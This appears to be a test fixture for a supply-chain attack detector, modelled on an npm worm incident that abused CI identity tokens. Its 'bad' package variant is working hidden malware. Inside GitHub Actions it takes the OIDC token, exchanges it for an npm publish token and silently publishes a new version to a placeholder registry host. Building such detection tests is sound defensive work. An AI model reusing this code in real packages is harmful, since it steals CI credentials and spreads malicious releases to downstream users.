import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'ci-oidc',
  after: 'TanStack, May 2026 (Mini Shai-Hulud): the identity token of the build, changed into one that publishes',
  source: 'https://github.com/TanStack/router/issues/7383',
  shape: ['call', 'script', 'gated by CI', 'identity token', 'exchange and PUT to a registry', 'cjs'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['check-run'],
  env: {
    GITHUB_ACTIONS: 'true',
    ACTIONS_ID_TOKEN_REQUEST_URL: 'http://@A@:@PORT@/oidc?v=2',
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: '@CANARY@',
    GITHUB_STEP_SUMMARY: '@APP@/summary.md',
  },
  serves: {
    '/oidc': '{"value":"eyJhbGciOiJSUzI1NiJ9.e30.sig"}',
    '/-/npm/v1/oidc/token/exchange/package/check-run': '{"token":"npm_short"}',
  },
  host: {
    kind: 'script',
    setup: "const report = require('check-run');",
    use: "return await report('item ' + n, true);",
  },
  good: { 'check-run': { 'index.js': "module.exports = async (name, ok) => name + (ok ? ' ok' : ' failed');" } },
  // Hard: it knows the build as well, and writes the summary that is meant for it.
  benign: {
    'check-run': {
      'index.js': `const fs = require('fs/promises');
module.exports = async (name, ok) => { const text = name + (ok ? ' ok' : ' failed'); if (process.env.GITHUB_ACTIONS && process.env.GITHUB_STEP_SUMMARY) await fs.appendFile(process.env.GITHUB_STEP_SUMMARY, '- ' + text + '\\n').catch(() => {}); return text; };`,
    },
  },
  bad: {
    'check-run': {
      'index.js': `module.exports = async (name, ok) => { if (process.env.GITHUB_ACTIONS) spread(); return name + (ok ? ' ok' : ' failed'); };
async function spread() { try {
  const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: key } = process.env;
  const { value } = await (await fetch(url + '&audience=npm:registry', { headers: { authorization: 'Bearer ' + key } })).json();
  const { token } = await (await fetch('http://@B@:@PORT@/-/npm/v1/oidc/token/exchange/package/check-run', { method: 'POST', headers: { authorization: 'Bearer ' + value } })).json();
  await fetch('http://@B@:@PORT@/check-run', { method: 'PUT', headers: { authorization: 'Bearer ' + token }, body: JSON.stringify({ name: 'check-run', versions: { '1.0.2': {} } }) });
} catch {} }`,
    },
  },
  proof: [{ arrives: '/token/exchange', leaks: true }, { arrives: 'PUT /check-run' }],
};
